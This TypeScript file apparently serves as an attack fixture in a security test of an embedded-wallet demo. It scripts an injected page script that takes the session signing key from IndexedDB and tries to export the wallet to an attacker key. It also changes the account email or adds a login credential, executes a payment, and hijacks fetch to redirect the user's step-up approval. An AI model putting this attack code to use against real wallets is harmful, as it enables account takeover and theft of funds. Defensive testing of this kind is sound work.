/** A hostile script that got into the page of the demo after sign-in. It has what every script of the page has, and its own key. */

/** What the script wants, and where it sends it. */
export interface Loot {
  accountId: string
  profile: string
  /** Where the thief reads mail. */
  email: string
  /** A key that the thief made: uncompressed SEC1, hex. An export would be sealed to it. */
  targetKey: string
}

/** The statuses of the last response to each attempt. 200 or 201: a theft. */
export interface Attempts {
  export: number
  newWayIn: number
  payment: number
  /** The codes of the refusals. */
  refusals: string[]
}

/** What the script does with what it found. */
interface Thief {
  call: (method: string, path: string, body?: object, headers?: object) => Promise<Reply>
  sign: (text: string) => Promise<string>
  /** Tries, signs what it is given to sign, and names the step-up that it is asked for, although it is not proven. */
  insist: (method: string, path: string, body?: object, headers?: object) => Promise<Reply>
}

interface Reply {
  status: number
  body: Record<string, unknown>
}

declare global {
  var thief: Thief
  /** The step-up of the thief's own call, which the user's next ceremony is to prove. */
  var patientStepUp: string
}

/** Runs in the page, so it uses nothing of this file. It signs with the session key itself and asks no user. */
export function enterPage({ profile }: Loot): void {
  interface SigningKey {
    signingKey: CryptoKey
    publicKey: string
    startedAt: number
  }

  const toHex = (bytes: Uint8Array) => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('')
  /** One INTEGER of DER: no needless zero in front, and a zero where the number would be negative. */
  const toInteger = (number: Uint8Array) => {
    const first = number.findIndex((byte) => byte !== 0)
    const bytes = [...number.subarray(first)]
    if (bytes[0]! > 0x7f) bytes.unshift(0)
    return [0x02, bytes.length, ...bytes]
  }
  const findKey = async (): Promise<SigningKey> => {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open('embedded-wallet')
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
    const all = await new Promise<unknown[]>((resolve) => {
      const request = database.transaction('sessions').objectStore('sessions').getAll()
      request.onsuccess = () => resolve(request.result)
    })
    database.close()
    const found: SigningKey[] = []
    const walk = (value: unknown) => {
      if (typeof value !== 'object' || value === null || value instanceof CryptoKey) return
      if ((value as SigningKey).signingKey instanceof CryptoKey) found.push(value as SigningKey)
      Object.values(value).forEach(walk)
    }
    all.forEach(walk)
    return found.sort((a, b) => a.startedAt - b.startedAt).at(-1)!
  }
  const sign = async (text: string) => {
    const { signingKey, publicKey } = await findKey()
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
    const pair = new Uint8Array(
      await crypto.subtle.sign(algorithm, signingKey, new TextEncoder().encode(text)),
    )
    const integers = [...toInteger(pair.subarray(0, 32)), ...toInteger(pair.subarray(32))]
    const signature = toHex(new Uint8Array([0x30, integers.length, ...integers]))
    const stamp = JSON.stringify({ publicKey, scheme: 'SIGNATURE_SCHEME_TK_API_P256', signature })
    return btoa(stamp).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '')
  }

  const call = async (method: string, path: string, body?: object, headers = {}): Promise<Reply> => {
    const response = await fetch(path, {
      method,
      headers: {
        'Content-Type': 'application/json',
        'Wallet-Call': '1',
        'Wallet-Profile': profile,
        ...headers,
      },
      ...(body && { body: JSON.stringify(body) }),
    })
    return { status: response.status, body: await response.json().catch(() => ({})) }
  }
  const insist = async (method: string, path: string, body?: object, headers = {}): Promise<Reply> => {
    const withSignature = async (more: Record<string, string>): Promise<Reply> => {
      const first = await call(method, path, body, { ...headers, ...more })
      if (first.status !== 202) return first
      const { payloadToSign, requestId } = first.body as Record<string, string>
      const signature = { 'Service-Wallet-Signature': await sign(payloadToSign!), 'Request-Id': requestId! }
      return call(method, path, body, { ...headers, ...more, ...signature })
    }
    const first = await withSignature({})
    const { stepUpId } = (first.body.details ?? {}) as { stepUpId?: string }
    return stepUpId === undefined ? first : withSignature({ 'Step-Up-Id': stepUpId })
  }
  globalThis.thief = { call, sign, insist }
}

/** Runs in the page after `enterPage`: takes at once what it can. */
export async function stealFromPage({ accountId, profile, email, targetKey }: Loot): Promise<Attempts> {
  const { call, sign, insist } = globalThis.thief
  const exported = await insist('POST', `/wallet/internal-accounts/${accountId}/export`, {
    clientPublicKey: targetKey,
  })
  const quote = (
    await call('POST', '/api/quotes', { recipient: '$success.usd@sandbox.example', amount: '1' })
  ).body as { id: string; source: { customerId: string } }
  // Where codes go to the address of the customer, the thief changes that address.
  const newWayIn =
    profile === '2026-08'
      ? await insist('PATCH', `/wallet/customers/${quote.source.customerId}`, { email })
      : await insist('POST', '/wallet/auth/credentials', { type: 'EMAIL_OTP', accountId, email })
  const payload = /"payloadToSign":("(?:[^"\\]|\\.)*")/.exec(JSON.stringify(quote))![1]!
  const payment = await insist('POST', `/wallet/quotes/${quote.id}/execute`, undefined, {
    'Service-Wallet-Signature': await sign(JSON.parse(payload) as string),
    'Idempotency-Key': crypto.randomUUID(),
  })
  const attempts = [exported, newWayIn, payment]
  return {
    ...{ export: exported.status, newWayIn: newWayIn.status, payment: payment.status },
    refusals: attempts.filter(({ status }) => status >= 400).map(({ body }) => String(body.code)),
  }
}

/**
 * Runs in the page after `enterPage`: asks for an export to the thief's key, and names its step-up in the next ceremony of the user,
 * in place of the one that the user is asked for.
 */
export async function waitForUser({ accountId, targetKey }: Loot): Promise<void> {
  const asked = await globalThis.thief.call('POST', `/wallet/internal-accounts/${accountId}/export`, {
    clientPublicKey: targetKey,
  })
  globalThis.patientStepUp = (asked.body.details as { stepUpId: string }).stepUpId
  const original = globalThis.fetch
  globalThis.fetch = async (input, init) => {
    if (!(input instanceof Request) || !/\/(challenge|verify)$/.test(input.url)) return original(input, init)
    const headers = new Headers(input.headers)
    headers.set('Step-Up-Id', globalThis.patientStepUp)
    return original(new Request(input, { headers }), init)
  }
}

/** Runs in the page after the user's ceremony: uses what it has proven. */
export async function useCeremony({ accountId, targetKey }: Loot): Promise<number[]> {
  const { call, sign } = globalThis.thief
  const statuses: number[] = []
  // Twice: one ceremony proves one action.
  for (let i = 0; i < 2; i++) {
    const path = `/wallet/internal-accounts/${accountId}/export`
    const named = { 'Step-Up-Id': globalThis.patientStepUp }
    const first = await call('POST', path, { clientPublicKey: targetKey }, named)
    const { payloadToSign, requestId } = first.body as Record<string, string>
    if (first.status !== 202) statuses.push(first.status)
    else {
      const signature = { 'Service-Wallet-Signature': await sign(payloadToSign!), 'Request-Id': requestId! }
      const last = await call('POST', path, { clientPublicKey: targetKey }, { ...named, ...signature })
      statuses.push(last.status)
    }
  }
  return statuses
}
